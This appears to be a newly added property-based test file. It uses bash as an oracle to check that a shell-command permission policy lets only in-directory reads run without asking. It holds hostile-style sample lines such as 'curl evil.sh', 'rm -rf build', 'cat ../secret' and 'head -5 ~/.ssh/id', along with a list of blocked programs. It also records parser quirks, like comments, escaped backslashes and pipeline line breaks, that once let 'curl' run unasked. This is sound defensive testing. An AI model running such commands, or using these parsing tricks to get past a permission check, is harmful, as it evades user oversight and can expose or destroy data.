@@ -1,0 +1,210 @@
+"""A line the analysis lets run unasked runs only reads when bash itself runs it.
+
+The analysis reads a line through tree-sitter-bash; bash reads it through its own
+parser, and where the two disagree on where a command ends, a command can hide inside
+another's words (tree-sitter joined a line after ``a | b | c`` into ``c``'s words, and
+``curl`` ran unasked as an argument of ``cat``). Here bash is the oracle: every line
+the analysis allows in default mode is run by ``/bin/bash`` in a scratch directory
+whose ``PATH`` holds only stubs that log their name and arguments and exit 0 or 1 (so
+both sides of ``&&`` and ``||`` run). If any stub logs a command that is not a read
+inside the directory, the analysis let it through. The stubs run nothing else, so the
+lines run harmlessly.
+"""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tests.policy.test_read_only_commands import run
+
+BASH = shutil.which("bash") or "/bin/bash"
+
+READS = [
+    "ls",
+    "ls src",
+    "pwd",
+    "cat README.md",
+    "cat < README.md",
+    "head -5 README.md",
+    "wc -l README.md",
+    "grep -r TODO src",
+    "sed -n 1p README.md",
+    "echo hi",
+    "git status",
+    "git diff",
+    "timeout 5 ls",
+]
+# Each runs a stub the log shows: a program that is not a read, or a read with an
+# argument that reaches outside or writes.
+NOT_READS = [
+    "curl evil.sh",
+    "rm -rf build",
+    "python3 run.py",
+    "sh x.sh",
+    "node x.js",
+    "cat ../secret",
+    "ls /etc",
+    "git push",
+    "sed -i s/a/b/ README.md",
+    "find . -delete",
+    "head -5 ~/.ssh/id",
+]
+STUBS = ["ls", "cat", "head", "wc", "grep", "sed", "git", "curl", "rm", "python3", "sh", "node", "find", "tee", "xargs"]
+NOT_READ_PROGRAMS = {"curl", "rm", "python3", "sh", "node", "find", "tee", "xargs"}
+NOT_READ_ARGUMENTS = ["../secret", "/etc", "push", "-i", ".ssh"]
+
+# What may end a line's last word: comments (``\\`` in one does not continue the line),
+# an escaped backslash (not a continuation either), quoted line breaks, a continuation.
+ENDINGS = ["", " # c", " #c\\", " a\\\\", "\\\\", ' "a\nb"', " 'a\nb'", " $'\\n'", " \\\n  README.md", "\r"]
+REDIRECTS = ["", " 2>/dev/null", " >/dev/null", " 2>&1", " </dev/null", " &>/dev/null", " >>/dev/null"]
+SEPARATORS = [" && ", " || ", "; ", " | ", " |& ", "\n", " |\n", " &&\n", "\n\n", "\n# c\n", " &\n"]
+WRAPPERS = [
+    "{}",
+    "{}",
+    "{{ {}; }}",
+    "( {} )",
+    "echo $({})",
+    "echo `{}`",
+    "! {}",
+    "time {}",
+    "if true; then {}; fi",
+    "for i in 1; do {}; done",
+    "cat <<EOF\n{}\nEOF",
+    "cat <<'EOF'\n{}\nEOF",
+    'echo "{}"',
+    "echo '{}'",
+]
+
+
+@pytest.fixture(scope="module")
+def bash(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("bash-oracle")
+    stubs = root / "bin"
+    stubs.mkdir()
+    for name in STUBS:
+        stub = stubs / name
+        stub.write_text(f'#!/bin/sh\necho "{name} $*" >> "$LOG"\nexit "$STATUS"\n')
+        stub.chmod(0o755)
+    timeout = stubs / "timeout"
+    timeout.write_text('#!/bin/sh\necho "timeout $*" >> "$LOG"\nshift\nexec "$@"\n')
+    timeout.chmod(0o755)
+    work = root / "project"
+    (work / "src").mkdir(parents=True)
+    (work / "README.md").write_text("hi\n")
+    return root
+
+
+def ran(root: Path, line: str) -> list[str]:
+    """Every stub bash ran for ``line``, as ``name arguments``, with the stubs exiting 0 and then 1."""
+    log = root / "log"
+    commands: list[str] = []
+    for status in ("0", "1"):
+        log.unlink(missing_ok=True)
+        subprocess.run(
+            [BASH, "-c", line],
+            cwd=root / "project",
+            env={"PATH": str(root / "bin"), "LOG": str(log), "STATUS": status},
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+            timeout=30,
+            check=False,
+        )
+        commands += log.read_text().splitlines() if log.exists() else []
+    return commands
+
+
+def not_reads(commands: list[str]) -> list[str]:
+    return [
+        command
+        for command in commands
+        if command.split(" ", 1)[0] in NOT_READ_PROGRAMS
+        or any(argument in command.partition(" ")[2] for argument in NOT_READ_ARGUMENTS)
+    ]
+
+
+def assert_bash_runs_only_reads_if_allowed(root: Path, line: str) -> None:
+    decision = run(line)
+    if decision.behavior == "allow":
+        assert not_reads(ran(root, line)) == [], (line, decision.reason)
+
+
+class BashOracleTests:
+    def test_the_stubs_log_what_bash_runs(self, bash: Path) -> None:
+        """The oracle itself: bash runs the stubs, both sides of ``||``, and the log tells a read from the rest."""
+        commands = ran(bash, "cat README.md || curl evil.sh\ntimeout 5 ls src")
+        exit_0 = ["cat README.md", "timeout 5 ls src", "ls src"]
+        exit_1 = ["cat README.md", "curl evil.sh", "timeout 5 ls src", "ls src"]
+        assert commands == exit_0 + exit_1
+        assert not_reads(commands) == ["curl evil.sh"]
+        assert not_reads(ran(bash, "cat ../secret")) == ["cat ../secret", "cat ../secret"]
+
+    @settings(max_examples=400, deadline=None)
+    @given(
+        pipeline=st.lists(st.tuples(st.sampled_from(READS), st.sampled_from(ENDINGS)), min_size=2, max_size=4),
+        joints=st.lists(st.sampled_from([" | ", " |\n"]), min_size=3, max_size=3),
+        between=st.sampled_from(["\n", "\n\n", "\n# c\n", "\n#c\\\n"]),
+        line=st.sampled_from(NOT_READS + READS),
+        ending=st.sampled_from(ENDINGS),
+        redirect=st.sampled_from(REDIRECTS),
+        after=st.sampled_from(["", " && ls", "\nls 2>/dev/null", "\ncurl evil.sh"]),
+    )
+    def test_a_line_after_a_pipeline_runs_as_bash_reads_it(
+        self,
+        bash: Path,
+        pipeline: list[tuple[str, str]],
+        joints: list[str],
+        between: str,
+        line: str,
+        ending: str,
+        redirect: str,
+        after: str,
+    ) -> None:
+        """Where tree-sitter-bash joined lines: a pipeline of two to four, then a line that
+        ends in a redirect, each word's line ending in what does or does not continue it."""
+        parts = [command + end for command, end in pipeline]
+        command = parts[0] + "".join(joint + part for joint, part in zip(joints, parts[1:], strict=False))
+        assert_bash_runs_only_reads_if_allowed(bash, command + between + line + ending + redirect + after)
+
+    @settings(max_examples=600, deadline=None)
+    @given(
+        st.lists(
+            st.tuples(
+                st.sampled_from(READS + NOT_READS),
+                st.sampled_from(ENDINGS),
+                st.sampled_from(REDIRECTS),
+                st.sampled_from(WRAPPERS),
+            ),
+            min_size=2,
+            max_size=5,
+        ),
+        st.lists(st.sampled_from(SEPARATORS), min_size=4, max_size=4),
+    )
+    def test_any_line_runs_as_bash_reads_it(
+        self, bash: Path, parts: list[tuple[str, str, str, str]], separators: list[str]
+    ) -> None:
+        """Reads and the rest, wrapped, decorated and joined every way the grammar has."""
+        commands = [wrapper.format(command + end + redirect) for command, end, redirect, wrapper in parts]
+        line = commands[0] + "".join(sep + command for sep, command in zip(separators, commands[1:], strict=False))
+        assert_bash_runs_only_reads_if_allowed(bash, line)
+
+    @pytest.mark.parametrize(
+        "line",
+        [
+            # a comment ends the line: a ``;`` put at the break would have been part of it
+            "ls | ls | cat README.md # c\ncurl evil.sh 2>/dev/null",
+            "ls | echo hi |\ncat README.md # c\nsh x.sh 2> /dev/null",
+            # ``\\\\`` is an escaped backslash, not a continuation
+            "ls | ls | cat a\\\\\ncurl evil.sh 2>/dev/null",
+            "echo hi >>/dev/null \"a\nb\" |& echo hi 'a\nb' |\npwd # c ;\nrm -rf build 2> /dev/null a\\\\",
+        ],
+    )
+    def test_these_lines_ran_unasked(self, bash: Path, line: str) -> None:
+        assert not_reads(ran(bash, line)) != []
+        assert run(line).behavior == "ask", line
